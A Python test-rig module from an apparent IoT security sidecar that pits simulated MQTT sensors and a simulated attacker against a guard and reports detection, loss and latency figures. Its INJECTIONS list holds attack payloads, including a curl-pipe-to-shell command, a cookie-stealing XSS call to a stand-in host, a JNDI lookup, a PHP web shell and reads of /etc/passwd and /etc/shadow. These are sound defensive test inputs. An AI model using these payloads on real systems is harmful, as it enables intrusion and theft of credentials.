"""The Raspberry Pi test rig: a gateway on one machine, under a device profile.

    edge-ssre rig --profile raspberry-pi-4 --duration 60 --out rig-report

Starts a gateway mosquitto and an upstream mosquitto (the stand-in for AWS IoT Core), the guard
sidecar (under the profile's budgets, table sizes and CPU pinning, with its event store and
uplink), simulated devices publishing JSON and CBOR telemetry, and an attacker publishing
injection payloads, floods, off-policy topics, oversize, malformed and out-of-range messages.
The upstream link goes down for the middle third of the run. At the end it writes a report
(text, JSON, a PNG figure and an HTML page embedding it; the figure needs matplotlib, the
``rig`` extra, and without it the text report stands alone): messages, blocked, alerts, false positives on the
benign stream, events buffered while offline, delivered after reconnect, lost, latency, RSS.
On a real Pi the same command runs the rig there.
"""

import json
import os
import random
import signal
import subprocess
import sys
import tempfile
import threading
import time

from .broker import Broker

RIG_TOPIC_PREFIX = "sensors"
UPSTREAM_TOPIC = "edge-ssre/rig/events"

SIDECAR_CONF = """
broker = "{host}:{port}"
inputs = ["sensors/#"]
output_prefix = "guarded"
quarantine = "quarantine"
profile = "{profile}"
sink = "store:{store}"
device = "rig-gateway"
stats_interval = 2
[uplink]
host = "{up_host}"
port = {up_port}
topic = "{up_topic}"
client_id = "rig-uplink"
rate_limit = 200
max_backoff = 2                    # reconnect within ~2 s of the link coming back (default 30 s)
[telemetry]
unknown_topics = "block"
client_id_level = 1
client_rate = {{ rate = 50, burst = 60 }}
[[telemetry.topic]]
filter = "sensors/+/telemetry"
format = "json"
max_bytes = 2048
unknown_fields = "alert"
[telemetry.topic.fields]
dev = {{ type = "string", max_length = 32, required = true }}
temp = {{ type = "number", min = -40, max = 85, required = true }}
hum = {{ type = "number", min = 0, max = 100 }}
status = {{ type = "string", enum = ["ok", "warn", "fault"] }}
note = {{ type = "string", max_length = 512 }}
seq = {{ type = "integer", min = 0 }}
[[telemetry.topic]]
filter = "sensors/+/power"
format = "cbor"
max_bytes = 512
[telemetry.topic.fields]
volt = {{ type = "number", min = 0, max = 60, required = true }}
amp = {{ type = "number", min = 0, max = 40 }}
seq = {{ type = "integer", min = 0 }}
"""

# The attacker's repertoire: one small sample per class (the evaluation corpus lives outside the package).
INJECTIONS = [
    ("sqli", "1' OR '1'='1' -- "), ("sqli", "0; DROP TABLE readings--"), ("sqli", "x' UNION SELECT password FROM users--"),
    ("xss", "<script>fetch('//evil/'+document.cookie)</script>"), ("xss", "<img src=x onerror=alert(1)>"),
    ("cmdi", "8.8.8.8; cat /etc/passwd"), ("cmdi", "$(curl -s http://evil.example/x | sh)"),
    ("path", "../../../../etc/shadow"), ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("jndi", "${jndi:ldap://attacker.example/a}"), ("code", "__import__('os').system('id')"),
    ("ssti", "{{config.__class__.__init__.__globals__}}"), ("nosqli", "{\"$where\": \"sleep(5000)\"}"),
    ("php", "<?php system($_GET['c']); ?>"), ("xxe", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
]


def _cbor(doc):
    import cbor2
    return cbor2.dumps(doc)


class Counters:
    def __init__(self):
        self.lock = threading.Lock()
        self.sent = {"benign": 0, "attack": 0, "flood": 0}
        self.guarded_ids = set()
        self.quarantined_ids = set()
        self.upstream = set()
        self.upstream_ts = []          # record timestamps of delivered events
        self.timeline = {}             # second -> {benign, attack, passed, blocked, delivered}

    def tick(self, key, t0):
        sec = int(time.monotonic() - t0)
        with self.lock:
            row = self.timeline.setdefault(sec, {"benign": 0, "attack": 0, "passed": 0, "blocked": 0, "delivered": 0})
            row[key] += 1


def _client(broker, v5=True, client_id=""):
    import paho.mqtt.client as mqtt
    c = mqtt.Client(callback_api_version=mqtt.CallbackAPIVersion.VERSION2, client_id=client_id,
                    protocol=mqtt.MQTTv5 if v5 else mqtt.MQTTv311)
    c.reconnect_delay_set(0.05, 1.0)
    return c


def _rig_id(msg):
    props = getattr(msg, "properties", None)
    for k, v in (getattr(props, "UserProperty", None) or ()):
        if k == "rig-id":
            return v
    return None


def _publish(c, topic, payload, rig_id, qos=1):
    from paho.mqtt.packettypes import PacketTypes
    from paho.mqtt.properties import Properties
    props = Properties(PacketTypes.PUBLISH)
    props.UserProperty = [("rig-id", rig_id)]
    c.publish(topic, payload, qos=qos, properties=props)


def _device(broker, name, stop, counters, t0, rate, rng):
    c = _client(broker, client_id=name)
    c.connect(broker.host, broker.port)
    c.loop_start()
    temp, seq = rng.uniform(18, 24), 0
    notes = ["scheduled reading", "door opened; operator O'Neil checked the seals", "fan speed 40 %",
             "select mode: auto", "firmware 2.4.1 (build 8812) ok", "<b>ok</b> after reboot"]
    while not stop.is_set():
        seq += 1
        temp += rng.uniform(-0.3, 0.3)
        if seq % 3 == 0:
            topic, payload = "sensors/%s/power" % name, _cbor({"volt": round(rng.uniform(11.5, 12.5), 2),
                                                               "amp": round(rng.uniform(0.1, 2), 2), "seq": seq})
        else:
            doc = {"dev": name, "temp": round(temp, 2), "hum": round(rng.uniform(30, 60), 1),
                   "status": rng.choice(["ok", "ok", "ok", "warn"]), "seq": seq}
            if seq % 5 == 0:
                doc["note"] = rng.choice(notes)
            topic, payload = "sensors/%s/telemetry" % name, json.dumps(doc).encode()
        _publish(c, topic, payload, "b:%s:%d" % (name, seq))
        with counters.lock:
            counters.sent["benign"] += 1
        counters.tick("benign", t0)
        stop.wait(1.0 / rate)
    c.disconnect()
    c.loop_stop()


def _attacker(broker, stop, counters, t0, rate, rng):
    c = _client(broker, client_id="mallory")
    c.connect(broker.host, broker.port)
    c.loop_start()
    n = 0
    kinds = ["inject", "inject", "inject", "topic", "oversize", "malformed", "range", "inject-key", "flood"]
    while not stop.is_set():
        n += 1
        kind = kinds[n % len(kinds)]
        dev = "dev-%d" % rng.randint(100, 999)  # the attacker owns a sensor (or spoofs one)
        rid = "a:%s:%d" % (kind, n)
        if kind == "inject":
            fam, text = INJECTIONS[n % len(INJECTIONS)]
            rid = "a:%s:%d" % (fam, n)
            _publish(c, "sensors/%s/telemetry" % dev, json.dumps({"dev": dev, "temp": 21.0, "note": text}).encode(), rid)
        elif kind == "inject-key":
            _publish(c, "sensors/%s/telemetry" % dev, json.dumps({"dev": dev, "temp": 1, "__proto__": {"admin": True}}).encode(), rid)
        elif kind == "topic":
            _publish(c, "sensors/%s/debug_shell" % dev, b"id; uname -a", rid)
        elif kind == "oversize":
            _publish(c, "sensors/%s/telemetry" % dev, json.dumps({"dev": dev, "temp": 1, "note": "A" * 5000}).encode(), rid)
        elif kind == "malformed":
            _publish(c, "sensors/%s/power" % dev, bytes.fromhex("a364766f6c74"), rid)
        elif kind == "range":
            _publish(c, "sensors/%s/telemetry" % dev, json.dumps({"dev": dev, "temp": 900}).encode(), rid)
        elif kind == "flood":
            flood_dev = "dev-flood"
            for i in range(120):  # far above the 50 msg/s per-client limit
                _publish(c, "sensors/%s/power" % flood_dev, _cbor({"volt": 12.0, "seq": i}), "f:%d:%d" % (n, i), qos=0)
            with counters.lock:
                counters.sent["flood"] += 120
            stop.wait(1.0 / rate)
            continue
        with counters.lock:
            counters.sent["attack"] += 1
        counters.tick("attack", t0)
        stop.wait(1.0 / rate)
    c.disconnect()
    c.loop_stop()


def _observer(broker, counters, t0):
    c = _client(broker)

    def on_connect(cl, u, f, rc, p=None):
        cl.subscribe("guarded/#", qos=1)
        cl.subscribe("quarantine/#", qos=1)

    def on_message(cl, u, m):
        rid = _rig_id(m)
        if rid is None:
            return
        with counters.lock:
            if m.topic.startswith("guarded/"):
                counters.guarded_ids.add(rid)
            else:
                counters.quarantined_ids.add(rid)
        counters.tick("passed" if m.topic.startswith("guarded/") else "blocked", t0)
    c.on_connect = on_connect
    c.on_message = on_message
    c.connect(broker.host, broker.port)
    c.loop_start()
    return c


def _consumer(broker, counters, t0):
    """The upstream side: a persistent QoS 1 session that deduplicates by (device, boot, seq)."""
    import cbor2
    c = _client(broker, v5=False, client_id="rig-cloud-consumer")
    c._clean_session = False

    def on_message(cl, u, m):
        for seq, rec in cbor2.loads(m.payload):
            r = cbor2.loads(rec) if isinstance(rec, bytes) else rec
            key = (r.get("device"), r.get("boot"), seq)
            with counters.lock:
                if key not in counters.upstream:
                    counters.upstream.add(key)
                    counters.upstream_ts.append(r.get("ts", 0))
                    new = True
                else:
                    new = False
            if new:
                counters.tick("delivered", t0)
    c.on_connect = lambda cl, u, f, rc, p=None: cl.subscribe(UPSTREAM_TOPIC, qos=1)
    c.on_message = on_message
    c.connect(broker.host, broker.port)
    c.loop_start()
    return c


def _rss_kb(pid):
    try:
        with open("/proc/%d/status" % pid) as fh:
            for line in fh:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def _pin(cpus):
    """A preexec function pinning the sidecar to the profile's CPUs that exist here, and a
    sentence saying how the profile's pinning was mapped to this machine."""
    have = sorted(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else []
    cpus = list(cpus or [])
    want = [c for c in cpus if c in have] or (have[-1:] if cpus else [])
    if not cpus:
        how = "the profile pins no CPUs: the sidecar runs on any of this machine's CPUs %s" % (have or "(unknown)")
    elif not have:
        how = "the profile asks for CPUs %s; this platform cannot pin, so the sidecar runs unpinned" % cpus
    elif want == cpus:
        how = "the profile's CPUs %s exist here: the sidecar is pinned to them" % cpus
    else:
        missing = [c for c in cpus if c not in have]
        how = ("the profile asks for CPUs %s; this machine has CPUs %s (%s not here), so the sidecar is pinned "
               "to %s%s" % (cpus, have, ", ".join(map(str, missing)), want,
                            "" if len(want) == len(cpus) else " (the last CPU: fewer cores than the profile's target)"))

    def pin():
        if want and hasattr(os, "sched_setaffinity"):
            os.sched_setaffinity(0, want)
    return pin, want, how


class _Sampler:
    """Once a second while the rig runs: the sidecar's RSS, and the stats lines it has written
    since (added latency per interval, events stored and waiting for the uplink), each stamped
    with seconds since the traffic started."""

    def __init__(self, pid, log_path):
        self.pid = pid
        self.log_path = log_path
        self.offset = 0
        self.rss = []     # [t, MB]
        self.stats = []   # [t, {name: number}] from "edge-ssre stats:" lines
        self.next = 0.0

    def sample(self, t):
        if t < self.next:
            return
        self.next = t + 1.0
        kb = _rss_kb(self.pid)
        if kb:
            self.rss.append([round(t, 2), round(kb / 1024.0, 2)])
        try:
            with open(self.log_path, "rb") as fh:
                fh.seek(self.offset)
                chunk = fh.read()
        except OSError:
            return
        end = chunk.rfind(b"\n") + 1  # whole lines only; the rest is read next time
        self.offset += end
        for line in chunk[:end].decode("utf-8", "replace").splitlines():
            if line.startswith("edge-ssre stats: ") and t >= 0:
                self.stats.append([round(t, 2), _fields(line[len("edge-ssre stats: "):])])


def _fields(text):
    out = {}
    for part in text.split():
        k, _, v = part.partition("=")
        try:
            out[k] = float(v) if "." in v else int(v)
        except ValueError:
            pass
    return out


def run_rig(profile="raspberry-pi-4", duration=60.0, out=None, devices=8, rate=5.0, attack_rate=4.0, seed=1,
            progress=sys.stderr):
    from ..profiles import load_profile
    prof = load_profile(profile)
    rng = random.Random(seed)
    work = out or tempfile.mkdtemp(prefix="edge-ssre-rig-")
    os.makedirs(work, exist_ok=True)
    counters = Counters()
    gateway = Broker(os.path.join(work, "gateway")).start()
    upstream = Broker(os.path.join(work, "upstream"), extra_conf="persistence true\npersistence_location %s/\n"
                      % os.path.join(work, "upstream")).start()
    store_path = os.path.join(work, "events.ring")
    if os.path.exists(store_path):
        os.remove(store_path)
    conf = os.path.join(work, "sidecar.toml")
    with open(conf, "w") as fh:
        fh.write(SIDECAR_CONF.format(host=gateway.host, port=gateway.port, profile=prof.path if os.path.exists(prof.path) and prof.path.endswith(".toml") else profile,
                                     store=store_path, up_host=upstream.host, up_port=upstream.port,
                                     up_topic=UPSTREAM_TOPIC))
    pin, cpus, cpu_mapping = _pin(prof.runtime.get("cpus"))
    progress.write("[rig] CPU pinning: %s\n" % cpu_mapping)
    side_log = open(os.path.join(work, "sidecar.log"), "w")
    side = subprocess.Popen([sys.executable, "-m", "edge_ssre.cli", "run", "--config", conf],
                            stdout=side_log, stderr=subprocess.STDOUT, preexec_fn=pin)
    sampler = _Sampler(side.pid, os.path.join(work, "sidecar.log"))
    t0 = time.monotonic()
    stop = threading.Event()
    threads = []
    observer = consumer = None
    rss_max = 0
    outage = (duration * 0.35, duration * 0.65)
    outage_wall = [None, None]
    outage_s = [None, None]  # the same, in seconds of the timeline
    try:
        time.sleep(1.5)  # the sidecar connects and subscribes
        observer = _observer(gateway, counters, t0)
        consumer = _consumer(upstream, counters, t0)
        time.sleep(0.5)
        t0 = time.monotonic()
        for i in range(devices):
            th = threading.Thread(target=_device, args=(gateway, "dev-%d" % i, stop, counters, t0, rate,
                                                        random.Random(rng.random())), daemon=True)
            th.start()
            threads.append(th)
        th = threading.Thread(target=_attacker, args=(gateway, stop, counters, t0, attack_rate, random.Random(seed + 7)),
                              daemon=True)
        th.start()
        threads.append(th)
        down = False
        next_report = 5.0
        while True:
            el = time.monotonic() - t0
            if el >= duration:
                break
            if not down and outage[0] <= el < outage[1]:
                upstream.stop()
                outage_wall[0], outage_s[0] = time.time(), el
                down = True
                progress.write("[rig %5.1fs] upstream link DOWN (the events buffer in the store)\n" % el)
            elif down and el >= outage[1]:
                upstream.start()
                outage_wall[1], outage_s[1] = time.time(), el
                down = False
                progress.write("[rig %5.1fs] upstream link UP (the uplink drains the backlog)\n" % el)
            rss_max = max(rss_max, _rss_kb(side.pid))
            sampler.sample(el)
            if el >= next_report:
                with counters.lock:
                    progress.write("[rig %5.1fs] sent benign=%d attacks=%d | guarded=%d quarantined=%d | delivered upstream=%d | sidecar RSS %.1f MB\n"
                                   % (el, counters.sent["benign"], counters.sent["attack"], len(counters.guarded_ids),
                                      len(counters.quarantined_ids), len(counters.upstream), _rss_kb(side.pid) / 1024.0))
                progress.flush()
                next_report += 5.0
            time.sleep(0.1)
        stop.set()
        for th in threads:
            th.join(5)
        if down:
            upstream.start()
            outage_wall[1], outage_s[1] = time.time(), time.monotonic() - t0
        settle_end = time.monotonic() + 2.0  # in-flight messages settle
        while time.monotonic() < settle_end:
            sampler.sample(time.monotonic() - t0)
            time.sleep(0.1)
        rss_max = max(rss_max, _rss_kb(side.pid))
    finally:
        stop.set()
        side.send_signal(signal.SIGTERM)
        try:
            side.wait(30)
        except subprocess.TimeoutExpired:
            side.kill()
            side.wait()
        side_log.close()
        time.sleep(1.0)  # the last batches reach the consumer
        for c in (observer, consumer):
            if c is not None:
                c.disconnect()
                c.loop_stop()
        gateway.stop()
        upstream.stop()
    run = {"duration": duration, "outage_wall": outage_wall, "outage_s": outage_s, "rss_max": rss_max,
           "cpus": cpus, "cpu_mapping": cpu_mapping, "exit_code": side.returncode, "sampler": sampler}
    return _report(work, prof, counters, run)


def _final_stats(work):
    final = {}
    with open(os.path.join(work, "sidecar.log")) as fh:
        for line in fh:
            if line.startswith("edge-ssre final: "):
                final = json.loads(line[len("edge-ssre final: "):])
    return final


TIMELINE_KEYS = ("benign", "attack", "passed", "blocked", "delivered")


def ordered_timeline(timeline):
    """Per-second counts as ``{"0": {...}, "1": {...}, ...}``: every second from 0 to the last one,
    in order, with every key (a second with nothing in it is all zeros)."""
    last = max((int(k) for k in timeline), default=-1)
    out = {}
    for sec in range(last + 1):
        row = timeline.get(sec) or timeline.get(str(sec)) or {}
        out[str(sec)] = {k: row.get(k, 0) for k in TIMELINE_KEYS}
    return out


def _report(work, prof, c, run):
    final = _final_stats(work)
    st = final.get("store", {})
    outage_wall, sampler = run["outage_wall"], run["sampler"]
    benign_sent = c.sent["benign"]
    benign_passed = sum(1 for r in c.guarded_ids if r.startswith("b:"))
    attack_ids = {r for r in c.guarded_ids | c.quarantined_ids if r.startswith("a:")}
    attacks_passed = sorted(r for r in c.guarded_ids if r.startswith("a:"))
    attacks_blocked = c.sent["attack"] - len(attacks_passed)
    flood_blocked = sum(1 for r in c.quarantined_ids if r.startswith("f:"))
    stored = st.get("newest_seq") or 0
    delivered = len(c.upstream)
    buffered = sum(1 for ts in c.upstream_ts if outage_wall[0] and outage_wall[1] and outage_wall[0] <= ts <= outage_wall[1])
    deadline_us = getattr(prof.limits, "deadline_us", None)
    report = {
        "profile": prof.name, "duration_s": run["duration"], "cpus_profile": prof.runtime.get("cpus"),
        "cpus_pinned": run["cpus"], "cpu_mapping": run["cpu_mapping"], "sidecar_exit": run["exit_code"],
        "messages": final.get("messages"), "blocked": final.get("blocked"), "alerts": final.get("alerts"),
        "benign_sent": benign_sent, "benign_passed": benign_passed,
        "false_positives": benign_sent - benign_passed,
        "attacks_sent": c.sent["attack"], "attacks_blocked": attacks_blocked,
        "attacks_blocked_ratio": round(attacks_blocked / c.sent["attack"], 4) if c.sent["attack"] else None,
        "attacks_passed": attacks_passed[:20], "attacks_seen_by_observer": len(attack_ids),
        "flood_sent": c.sent["flood"], "flood_blocked": flood_blocked,
        "events_stored": stored, "events_dropped": st.get("dropped"),
        "events_buffered_while_offline": buffered, "events_delivered": delivered,
        "events_lost": max(0, stored - delivered) + (st.get("dropped") or 0),
        "latency_p50_us": final.get("latency_p50_us"), "latency_p99_us": final.get("latency_p99_us"),
        "deadline_us": deadline_us,
        "sidecar_rss_max_mb": round(run["rss_max"] / 1024.0, 1), "memory_budget_mb": prof.runtime.get("memory_mb"),
        "queue_overflow": final.get("overflow"), "uplink": final.get("uplink"),
        "targets": {}, "outage": outage_wall, "outage_s": run["outage_s"],
        "timeline": ordered_timeline(c.timeline),
        "samples": {"rss_mb": sampler.rss, "stats": sampler.stats},
        "figure": None, "workdir": work,
    }
    report["targets"] = {
        "0 lost events": report["events_lost"] == 0,
        "0 false positives on the benign stream": report["false_positives"] == 0,
        ">= 99% of injected attacks blocked": (report["attacks_blocked_ratio"] or 0) >= 0.99,
    }
    png = os.path.join(work, "report.png")
    try:
        from .figure import draw
    except ImportError:  # matplotlib is optional (pip install 'edge-ssre[rig]')
        report["figure"] = None
    else:
        draw(report, png)
        report["figure"] = png
    with open(os.path.join(work, "report.json"), "w") as fh:
        json.dump(report, fh, indent=1, default=str)
    with open(os.path.join(work, "report.txt"), "w") as fh:
        fh.write(text_report(report))
    with open(os.path.join(work, "report.html"), "w") as fh:
        fh.write(html_report(report))
    return report


def text_report(r):
    lines = ["edge_ssre rig report: profile %s, %.0f s" % (r["profile"], r["duration_s"]),
             "CPU pinning: %s" % r["cpu_mapping"],
             "",
             "messages inspected        %s (blocked %s, alerts %s, queue overflow %s)" % (r["messages"], r["blocked"], r["alerts"], r["queue_overflow"]),
             "benign stream             %d sent, %d passed, %d false positives" % (r["benign_sent"], r["benign_passed"], r["false_positives"]),
             "injected attacks          %d sent, %d blocked (%.1f %%)" % (r["attacks_sent"], r["attacks_blocked"], 100 * (r["attacks_blocked_ratio"] or 0)),
             "flood                     %d sent, %d blocked by the per-client rate limit" % (r["flood_sent"], r["flood_blocked"]),
             "security events           %d stored, %d buffered while offline, %d delivered upstream, %d lost (dropped %s)" % (
                 r["events_stored"], r["events_buffered_while_offline"], r["events_delivered"], r["events_lost"], r["events_dropped"]),
             "added latency             p50 %s us, p99 %s us (inspection deadline %s us)" % (r["latency_p50_us"], r["latency_p99_us"], r["deadline_us"]),
             "sidecar RSS               %.1f MB max (profile budget %s MB)" % (r["sidecar_rss_max_mb"], r["memory_budget_mb"]),
             ""]
    for name, ok in r["targets"].items():
        lines.append("%-42s %s" % (name, "PASS" if ok else "FAIL"))
    if r["attacks_passed"]:
        lines.append("attacks that passed: %s" % ", ".join(r["attacks_passed"]))
    lines.append("")
    if r["figure"] is None:
        lines.append("figure: not drawn (matplotlib is not installed: pip install 'edge-ssre[rig]')")
    files = "report.json, report.txt, report.html%s, sidecar.log, events.ring" % (", report.png" if r["figure"] else "")
    lines.append("files: %s/{%s}" % (r["workdir"], files))
    return "\n".join(lines) + "\n"


def _escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def html_report(r):
    """A self-contained page: the figure (PNG, embedded), the targets and the text report."""
    if r["figure"]:
        import base64
        with open(r["figure"], "rb") as fh:
            data = base64.b64encode(fh.read()).decode("ascii")
        figure = ('<img alt="rig timeline: traffic, security events, added latency and RSS over the run" '
                  'style="max-width:100%%" src="data:image/png;base64,%s">' % data)
    else:
        figure = ("<p><em>No figure: matplotlib is not installed (<code>pip install 'edge-ssre[rig]'</code>, "
                  "or Debian's <code>python3-matplotlib</code>).</em></p>")
    rows = "".join('<tr><td>%s</td><td style="color:%s">%s</td></tr>'
                   % (_escape(k), "#2b8a3e" if v else "#c92a2a", "PASS" if v else "FAIL")
                   for k, v in r["targets"].items())
    return ("<!doctype html><meta charset=utf-8><title>edge_ssre rig report: %s</title>"
            "<style>body{font-family:sans-serif;margin:2em;max-width:1100px}td{padding:2px 12px}</style>"
            "<h1>edge_ssre rig: %s</h1><p>%s</p>%s<h2>Targets</h2><table>%s</table><h2>Figures</h2><pre>%s</pre>"
            % (_escape(r["profile"]), _escape(r["profile"]), _escape("CPU pinning: " + r["cpu_mapping"]), figure,
               rows, _escape(text_report(r))))


def main(args):
    try:
        r = run_rig(args.profile, args.duration, args.out, devices=args.devices, seed=args.seed)
    except RuntimeError as exc:
        sys.stderr.write("edge-ssre: %s\n" % exc)
        return 3
    sys.stdout.write(text_report(r))
    if args.json:
        print(json.dumps({k: v for k, v in r.items() if k not in ("timeline", "samples")}, default=str))
    return 0 if all(r["targets"].values()) else 1
